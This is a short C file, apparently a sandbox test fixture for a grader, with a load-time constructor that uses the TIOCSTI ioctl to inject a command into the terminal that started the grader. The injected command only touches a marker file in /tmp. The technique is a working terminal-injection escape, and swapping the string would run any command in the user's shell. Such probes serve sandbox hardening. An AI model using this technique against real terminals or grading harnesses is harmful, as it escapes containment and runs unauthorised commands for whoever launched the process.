
/* Attack: push a command into the terminal the grader was started from (TIOCSTI), on every
 * standard descriptor: the shell would run it after the grader exits. */
#include <sys/ioctl.h>

__attribute__((constructor)) static void attack_terminal(void)
{
    const char *cmd = "touch /tmp/flipkit-attack-tiocsti\n";
    for (int fd = 0; fd < 3; fd++)
        for (const char *c = cmd; *c; c++)
            ioctl(fd, TIOCSTI, c);
}
